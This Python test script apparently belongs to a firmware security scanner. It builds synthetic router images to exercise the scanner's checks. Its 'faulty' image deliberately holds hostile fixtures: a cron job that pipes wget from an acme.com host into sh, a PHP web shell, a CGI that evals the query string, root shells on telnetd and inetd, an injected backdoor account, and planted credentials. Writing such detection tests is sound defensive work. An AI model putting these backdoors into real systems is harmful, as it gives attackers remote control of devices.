#!/usr/bin/env python3
"""Every check on images: one in which it finds something (fail, review), one in which it does not (pass,
not applicable), one that cannot tell (not evaluable). The images are small trees packed here as tar, in
which modes, owners and devices stand, the sample, and files of the tests' samples. What a check's rule
rules out is named with the reason."""
import io
import random
import struct
import subprocess
import tarfile
import tempfile
import zlib
from pathlib import Path

from support import ROOT, SAMPLE, check, end, report, run

SAMPLES = ROOT / "tests/samples"
ELF = (SAMPLES / "headers/good-le64.so").read_bytes()
HEADS = 64 + 56 * 8  # the end of its program headers, behind which UPX puts its mark
BUSYBOX = b"\1\2\3\xff\0BusyBox v1.36.1 (2024-01-01 00:00:00 UTC)\0"
KERNEL = b"#\n# Automatically generated file; DO NOT EDIT.\n# Linux/arm64 5.10.0 Kernel Configuration\n#\n"
# A daemon without hardening, whose libraries are not there: it listens, calls a broker of messages
# and runs commands.
DAEMON = """
int socket(), bind(), listen(), accept(), system(), strcpy(), SSL_connect(), SSL_read(), execve();
const char *const texts[] = { "FactoryReset", "urn:dslforum-org:cwmp-1-0", "/goform/SetHidden" };
int main(int n, char **v)
{
	char b[64];
	strcpy(b, texts[n]);
	socket(2, 1, 0); bind(3, b, 16); listen(3, 1); accept(3, 0, 0); SSL_connect(b); SSL_read(b, b, 64); execve(b, v, v);
	return system(b);
}
void _start(void) { main(0, 0); }
"""
STUB = "".join(f"int {name}() {{ return 0; }}\n" for name in
               ("socket", "bind", "listen", "accept", "system", "strcpy", "SSL_connect", "SSL_read", "execve"))
# The public key of RFC 8410, 10.1, whose private half is printed in 10.3.
EXAMPLE_KEY = "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEAGb9ECWmEzf6FQbrBZ9w7lshQhqowtrbLDFw4rXAxZuE=\n-----END PUBLIC KEY-----\n"
# A signed image, a device tree that requires the key, and the key's certificate: see make_chain.sh.
CHAIN = ("chain.itb", "chain.dtb", "chain.crt")
SHADOW = "$1$abcdefgh$4Q7z8ZbTvbsGBGDOVFvcz/"

# Entries: content, or (content, mode); b"" with a type: ("dev", major, minor, mode), ("link", target).
FAULTY = {
    "etc/passwd": f"root:x:0:0:root:/root:/bin/sh\nsupport:x:0:0::/:/bin/sh\nop:x:500:500::/:/bin/sh\nop2:x:500:500::/:/bin/sh\nzyfwp:x:501:501::/:/bin/sh\n",
    "etc/shadow": f"root::0:0:99999:7:::\nsupport:{SHADOW}:0:0:99999:7:::\nop:{SHADOW}:0:0:99999:7:::\nop2:{SHADOW}:0:0:99999:7:::\nzyfwp:{SHADOW}:0:0:99999:7:::\n",
    "etc/inittab": "::sysinit:/etc/init.d/rcS\nttyS0::respawn:/bin/sh\n",
    "etc/init.d/rcS": (
        "#!/bin/sh\nmount -t proc proc /proc\ntelnetd -l /bin/sh &\nadbd &\ndropbear -p 22\nminiupnpd -f /etc/miniupnpd.conf &\n"
        "httpd -p 80 -h /www &\ndnsmasq -Q 53 -C /etc/dnsmasq.conf\nudpsvd 0 4711 /bin/agent\n/usr/bin/agentd &\nhostapd /etc/hostapd.conf &\nlighttpd -f /etc/lighttpd.conf\n"
        "echo 'debug:$1$aa$bbbbbbbbbbbbbbbbbbbbb1:0:0::/:/bin/sh' >> /etc/passwd\n"
        "iptables -P INPUT ACCEPT\niptables -P FORWARD ACCEPT\niptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to 192.168.1.5\n"
        "dropbearkey -t rsa -f /etc/dropbear/key\nwhile ! ping -c 1 cloud.acme.com; do sleep 1; done\n"
        "syslogd -R logs.acme.com:514\nping -c 1 203.0.113.9\ncurl -k https://up.acme.com/x\nwget http://up.acme.com/fw.bin\n"
        "mount /dev/sda1 /mnt && sh /mnt/autorun.sh\ncron\n/usr/sbin/sshd\nsnmpd\ncwmpd &\ntcpdump -i eth0 -w /tmp/a &\ninetd\n/usr/sbin/cloudd &\n", 0o755),
    "etc/init.d/defaultpass": ("#!/bin/sh\nMAC=$(cat /sys/class/net/eth0/address)\nP=$(echo $MAC | md5sum | cut -c1-8)\necho \"root:$P\" | chpasswd\n", 0o755),
    "etc/hostapd.conf": "interface=wlan0\nssid=acme\nwpa=2\nwpa_passphrase=acme-secret-1\nap_pin=12345670\nwps_state=2\n",
    "etc/dnsmasq.conf": "query-port=53\naddress=/www.acme.com/10.0.0.1\n",
    "etc/lighttpd.conf": 'server.document-root = "/www"\nserver.port = 80\nssl.use-sslv3 = "enable"\nssl.engine = "enable"\nssl.pemfile = "/etc/s.pem"\nserver.modules = ("mod_ssi","mod_cgi")\ncgi.assign = (".cgi" => "/bin/sh")\nserver.upload-dirs = ( "/www/cgi-bin" )\ndir-listing.activate = "enable"\nssi.extension = ( ".shtml" )\nssi.exec = "enable"\n',
    "etc/ssh/sshd_config": "Protocol 1\nPermitRootLogin yes\nPermitEmptyPasswords yes\nCiphers arcfour,3des-cbc\n",
    "etc/snmp/snmpd.conf": "rwcommunity private\nrocommunity public\n",
    "etc/sudoers": "op ALL=(ALL) NOPASSWD: ALL\n",
    "etc/crontabs/root": "* * * * * /tmp/job.sh\n0 * * * * wget -O - http://a.acme.com/x | sh\n",
    "etc/profile": "export PATH=.:/tmp:/bin\n",
    "etc/sysctl.conf": "net.ipv4.conf.all.accept_source_route=1\nnet.ipv4.icmp_echo_ignore_broadcasts=0\nkernel.randomize_va_space=0\nnet.ipv4.conf.all.rp_filter=0\n",
    "etc/fstab": "/dev/sda1 /media/usb vfat auto,exec 0 0\n",
    "etc/opkg.conf": "src/gz base http://feeds.acme.com/base\noption check_signature 0\n",
    "etc/config/system": "config system\n\toption hostname acme\n",
    "etc/firmware.conf": "aes_key=8e73b0f7da0e6452c810f32b809079e5\nftp_user=upload\nftp_password=Xk29sLqo11\nurl=ftp://upload:Xk29sLqo11@files.acme.com/in\n",
    "etc/os-release": 'NAME="Acme"\nVERSION="1.0"\n',
    "boot/config-5.10.0": KERNEL.decode() + "CONFIG_ARM64=y\nCONFIG_MMU=y\nCONFIG_MODULES=y\n# CONFIG_STRICT_KERNEL_RWX is not set\nCONFIG_DEVMEM=y\n# CONFIG_STRICT_DEVMEM is not set\nCONFIG_DEVKMEM=y\nCONFIG_KGDB=y\nCONFIG_KGDB_SERIAL_CONSOLE=y\n# CONFIG_MODULE_SIG is not set\nCONFIG_IP_DCCP=m\n",
    "boot/cmdline": "console=ttyS0 norandmaps kgdboc=ttyS0\n",
    "lib/modules/5.10.0/dccp.ko": b"\x7fELF\x01\x01\x01" + bytes(40) + b"\0vermagic=5.10.0 SMP mod_unload\0license=Proprietary\0",
    "dev/mem": ("dev", 1, 1, 0o666), "dev/acme": ("dev", 245, 0, 0o666),
    "bin/find": (ELF, 0o4755), "bin/sh": (ELF, 0o755), "usr/bin/gdbserver": (ELF, 0o755),
    "root/.ssh/id_rsa": (SAMPLES / "keys/published.pem").read_bytes(),
    "etc/opkg/keys/feeds.pem": EXAMPLE_KEY,
    "root/.ash_history": "mysql -pSecret12345\n",
    "www/index.html": "<a href=\"/cgi-bin/a.cgi\">a</a><script src=/jquery-1.7.2.min.js></script>\n",
    "www/jquery-1.7.2.min.js": "/*! jQuery v1.7.2 jquery.com | jquery.org/license */\n(function(a,b){})(window);\n",
    "www/cgi-bin/a.cgi": ("#!/bin/sh\neval $QUERY_STRING\nping -c 1 $QUERY_STRING\necho 'Set-Cookie: sid=1'\n", 0o755),
    "www/cgi-bin/hidden.cgi": ("#!/bin/sh\ntelnetd -p 2323\n", 0o755),
    "www/up.php": "<?php system($_GET['c']); setcookie('sid', time()); move_uploaded_file($_FILES['f']['tmp_name'], '/www/cgi-bin/'.$_FILES['f']['name']); ?>\n",
    "www/phpinfo.php": "<?php phpinfo(); ?>\n",
    "usr/bin/agentd": ((SAMPLES / "code/aarch64-pie").read_bytes(), 0o755),
    "www/cgi-bin/login.cgi": ((SAMPLES / "code/arm-pie").read_bytes(), 0o755),
    "usr/lib/textrel.so": (SAMPLES / "elf/good-textrel.so").read_bytes(),
    "usr/sbin/writable": ((SAMPLES / "elf/good-writable-code").read_bytes(), 0o755),
    "etc/hidden": "xmlset_roodkcableoj28840ybtide\n",
    "sbin/sysupgrade": ("#!/bin/sh\nmd5sum -c /tmp/fw.md5 && mtd write /tmp/fw.bin firmware\n", 0o755),
    "sbin/reset": ("#!/bin/sh\nrm -rf /etc/config/*\n", 0o755),
    "usr/bin/backup": ("#!/bin/sh\ntar c /etc/config | openssl enc -aes-256-cbc -k Xk29sLqo11 -out /tmp/backup.bin\n", 0o755),
    "etc/init.d/S99any": ("#!/bin/sh\nexec /usr/bin/agentd\n", 0o777),
    "etc/config/firewall": "config zone\n\toption name wan\n\toption input ACCEPT\n\toption forward ACCEPT\n\nconfig redirect\n\toption src wan\n\toption target DNAT\n\toption dest_ip 192.168.1.5\n\toption src_dport 80\n\toption dest lan\n",
    "etc/tr069.conf": "acs_url=http://acs.acme.com:7547/\nacs_username=cpe\nacs_password=Xk29sLqo11\n",
    "etc/inetd.conf": "32764 stream tcp nowait root /bin/sh sh\n", "usr/sbin/tcpdump": (ELF, 0o755), "sbin/syslogd": (ELF, 0o755), "usr/sbin/inetd": (ELF, 0o755),
    "etc/ntp.conf": "server 0.pool.ntp.org\n",
    "etc/cloud.conf": "key=AKIAQ3EGUZ7KVNX4M2TB\n",
    "etc/httpd.conf": "no_auth=/status.htm\n/cgi-bin:admin:admin\n",
    "usr/sbin/cloudd": (ELF + b"\0AKIAQ3EGUZ7KVNX4M2TB\0FactoryReset\0cwmp\0HELODBG\0", 0o755),
    "usr/sbin/httpd": ((SAMPLES / "code/routes-aarch64").read_bytes(), 0o755),
    "etc/goahead/route.txt": "route uri=/action/ handler=action\n",
    "usr/sbin/vsftpd": (ELF + b"\0vsftpd: version 2.3.4\0", 0o755),
    "usr/lib/libold": BUSYBOX + b"BusyBox v1.30.0 (2019-01-01 00:00:00 UTC)\0",
    "usr/bin/packed": (ELF[:HEADS + 4] + b"UPX!" + ELF[HEADS + 8:], 0o755),
    "boot/vmlinux": b"\0Linux version 4.19.0 (a@b) (gcc 8) #1 SMP Thu\0",
    "bin/infected": (ELF + bytes.fromhex("0d404b4c0d4057515b404d5a02") + b"\0", 0o755),
    "www/hidden.html": '<form action="/goform/Other"></form>',
    "etc/hotplug.d/usb/10-adb": ("#!/bin/sh\n[ -f /mnt/usb/enable ] && telnetd\n", 0o755),
}

SOUND = {
    "etc/passwd": "root:x:0:0:root:/root:/bin/sh\ndaemon:*:1:1::/:/bin/false\n",
    "etc/shadow": "root:!:0:0:99999:7:::\ndaemon:*:0:0:99999:7:::\n",
    "etc/os-release": 'NAME="Acme OS"\nVERSION_ID="2.1"\nPRETTY_NAME="Acme OS 2.1"\n',
    "etc/openwrt_release": "DISTRIB_ID='OpenWrt'\nDISTRIB_RELEASE='23.05.2'\n",
    "etc/device_info": "DEVICE_PRODUCT='AR7'\nDEVICE_MANUFACTURER='Acme'\n",
    "etc/inittab": "::sysinit:/etc/init.d/rcS\n",
    "etc/pam.d/common-password": "password requisite pam_pwquality.so retry=3 minlen=12 minclass=3\n",
    "bin/busybox": (BUSYBOX, 0o755), "sbin/syslogd": ("link", "/bin/busybox"), "usr/sbin/rngd": ("link", "/bin/busybox"),
    "sbin/watchdog": ("link", "/bin/busybox"), "bin/sh": ("link", "/bin/busybox"),
    "etc/init.d/rcS": ("#!/bin/sh\nrngd -r /dev/hwrng\ndropbearkey -t ed25519 -f /etc/dropbear/key\nsyslogd -C64 -s 200 -b 2\nwatchdog -t 5 /dev/watchdog\nip6tables -P INPUT DROP\nip6tables -P FORWARD DROP\niptables -P INPUT DROP\niptables -P FORWARD DROP\n", 0o755),
    "etc/sysctl.conf": "kernel.panic=10\nkernel.randomize_va_space=2\nnet.ipv4.conf.all.accept_source_route=0\n",
    "etc/logrotate.conf": "size 100k\nrotate 2\n",
    "etc/fstab": "tmpfs /tmp tmpfs size=16m,nosuid,nodev,noexec 0 0\n",
    "dev/watchdog": ("dev", 10, 130, 0o600),
    "sbin/sysupgrade": ("#!/bin/sh\n[ \"$NEW_VERSION\" -ge \"$OLD_VERSION\" ] || { echo 'no downgrade to an older version'; exit 1; }\nusign -V -m /tmp/fw.bin -p /etc/key.pub || exit 1\nmtd write /tmp/fw.bin firmware\n", 0o755),
    "sbin/firstboot": ("#!/bin/sh\nmtd erase rootfs_data\n", 0o755),
    "www/login.php": "<?php setcookie('sid', bin2hex(random_bytes(16)), ['httponly' => true, 'secure' => true]); $csrf_token = 1; ?>\nSet-Cookie: sid; HttpOnly; Secure\n",
}


# What the rule itself rules out, by check.
NEVER = {
    "IMG-03": ["open"], "IMG-04": ["open"], "IMG-06": ["found", "open"], "SEC-09": ["not found"],
    "SBOM-09": ["found", "open"], "WEB-10": ["found"], "BACK-10": ["found"], "AVAIL-08": ["found"], "EP-05": ["found"],
    "EP-09": ["found", "not found"],
}


def packed(tree: dict) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as t:
        for name, what in sorted(tree.items()):
            i = tarfile.TarInfo(name)
            if isinstance(what, tuple) and what[0] == "dev":
                i.type, i.devmajor, i.devminor, i.mode = tarfile.CHRTYPE, *what[1:]
            if isinstance(what, tuple) and what[0] == "link":
                i.type, i.linkname = tarfile.SYMTYPE, what[1]
            if i.type != tarfile.REGTYPE:
                t.addfile(i)
                continue
            if name == "bin/find":  # cap_sys_admin
                i.pax_headers = {"SCHILY.xattr.security.capability": struct.pack("<5I", 0x02000001, 1 << 21, 0, 0, 0).decode()}
            content, i.mode = what if isinstance(what, tuple) else (what, 0o644)
            data = content.encode() if isinstance(content, str) else content
            i.size = len(data)
            t.addfile(i, io.BytesIO(data))
    return out.getvalue()


def compiled(folder: Path, text: str = "FactoryReset") -> bytes:
    """The daemon with a text, by the compiler that evenhand itself is made with."""
    (folder / "daemon.c").write_text(DAEMON.replace("FactoryReset", text))
    (folder / "stub.c").write_text(STUB)
    common = ["gcc", "-O1", "-w", "-nostdlib", "-fno-builtin", "-fno-stack-protector", "-Wl,--build-id=none"]
    subprocess.run([*common, "-shared", "-fPIC", "-Wl,-soname,libmosquitto.so.1", "-o", folder / "stub.so", folder / "stub.c"], check=True)
    subprocess.run([*common, "-no-pie", "-fno-pie", "-Wl,-rpath,/tmp/lib", "-o", folder / "daemon", folder / "daemon.c",
                    folder / "stub.so"], check=True)
    return (folder / "daemon").read_bytes()


def certificate(folder: Path) -> str:
    """Of an authority that nobody knows, signed by way of SHA-1."""
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:1024", "-nodes", "-sha1", "-days", "9000", "-subj", "/CN=Acme CA",
                    "-keyout", folder / "k.pem", "-out", folder / "c.pem"], check=True, capture_output=True)
    return (folder / "c.pem").read_text()


def environment(delay: str) -> bytes:
    """A boot loader's, as mkenvimage makes it."""
    data = f"bootcmd=bootm 0x9f020000\0bootargs=console=ttyS0,115200 root=/dev/mtdblock2\0bootdelay={delay}\0baudrate=115200\0ethaddr=00:11:22:33:44:55\0\0".encode().ljust(0x10000 - 4, b"\xff")
    loader = b"\x27\x05\x19\x56U-Boot 2016.11 (Mar 03 2018 - 10:00:00 +0800)\0".ljust(0x10000, b"\0")
    return loader + struct.pack("<I", zlib.crc32(data)) + data


def unpacked(data: bytes, folder: Path) -> Path:
    with tarfile.open(fileobj=io.BytesIO(data)) as t:
        for i in t:
            if i.type != tarfile.CHRTYPE:
                t.extract(i, folder, filter="fully_trusted")
    return folder


def images(folder: Path) -> list[tuple]:
    """Files and options."""
    noise = random.Random(1).randbytes(300_000)
    faulty = FAULTY | {"usr/bin/agentd": (compiled(folder), 0o755), "etc/ssl/certs/acme.pem": certificate(folder)}
    plain = {"etc/inittab": "::sysinit:/etc/rcS\n", "etc/rcS": ("#!/bin/sh\nhttpd -p 80 -h /www\n", 0o755), "usr/sbin/httpd": (ELF, 0o755)}
    known = {"etc/inittab": "::sysinit:/etc/rcS\n", "etc/rcS": ("#!/bin/sh\nsyslogd -C64\n", 0o755), "sbin/syslogd": ("link", "/bin/busybox"),
             "bin/busybox": (compiled(folder, "BusyBox v1.36.1 (2024-01-01 00:00:00 UTC)"), 0o755)}
    files = {"faulty.tar": packed(faulty), "sound.tar": packed(SOUND), "plain.tar": packed(plain),
             "empty.tar": packed({"etc/hostname": "a\n"}), "noise.bin": noise, "behind.bin": SAMPLE.read_bytes() + noise,
             "chain.tar": packed({f"boot/{name}": (SAMPLES / "update" / name).read_bytes() for name in CHAIN}),
             "known.tar": packed(known), "waits.env": environment("3"), "locked.env": environment("-2")}
    for name, data in files.items():
        (folder / name).write_bytes(data)
    sound = unpacked(files["sound.tar"], folder / "sound")
    subprocess.run(["mksquashfs", sound, folder / "sound.sqfs", "-quiet", "-no-progress", "-all-root"], check=True, capture_output=True)
    (folder / "masked.bin").write_bytes(bytes(b ^ 0x5a for b in (folder / "sound.sqfs").read_bytes()))
    with (folder / "faulty.ext4").open("wb") as f:
        f.truncate(8 << 20)
    subprocess.run(["mkfs.ext4", "-q", "-d", unpacked(files["faulty.tar"], folder / "faulty"), folder / "faulty.ext4"], check=True)
    draft = folder / "sound.yaml"
    draft.write_bytes(run("declare", folder / "sound.tar").stdout.replace(b"reason: ?", b"reason: needed"))
    feeds = [f"--feed={SAMPLES / 'feeds' / name}" for name in ("nvd.json", "kev.json")]
    samples = ("lvm/kinds.lvm.gz", "device/good.super", "headers/good.gpt.gz", "dlink/good.alphawrgg", "keys/weak-close.der",
               "telecom/good-v6.elf", "headers/good-vmlinux", "update/keys.dtb")
    return [(SAMPLE,)] + [(SAMPLES / name, "--as-of", "2026-01-01") for name in samples] + \
        [(folder / name, "--as-of", "2026-01-01") for name in (*files, "sound.sqfs", "masked.bin", "faulty.ext4")] + \
        [(SAMPLES / "signature/usign.bin", "--trust", SAMPLES / "signature/usign.pub")] + \
        [(folder / "faulty.tar", *feeds), (SAMPLE, *feeds), (folder / "sound.tar", *feeds), (folder / "faulty.tar",),
         (folder / "faulty.tar", "--declaration", draft), (folder / "sound.tar", "--declaration", draft)]


def main() -> None:
    kinds = {"fail": "found", "review": "found", "pass": "not found", "not-applicable": "not found", "not-evaluable": "open"}
    seen: dict[str, dict[str, str]] = {}
    with tempfile.TemporaryDirectory() as tmp:
        for image, *options in images(Path(tmp)):
            _, r, _ = report(image, *options)
            for v in r["verdicts"]:
                seen.setdefault(v["check"], {}).setdefault(kinds[v["outcome"]], image.name)
    for name, outcomes in seen.items():
        excepted = NEVER.get(name, [])
        lacks = {"found", "not found", "open"} - set(outcomes) - set(excepted)
        check(f"{name}: an image of each kind", not lacks, sorted(lacks))
        check(f"{name}: no exception that is not needed", not set(excepted) & set(outcomes), set(excepted) & set(outcomes))
    end()


main()
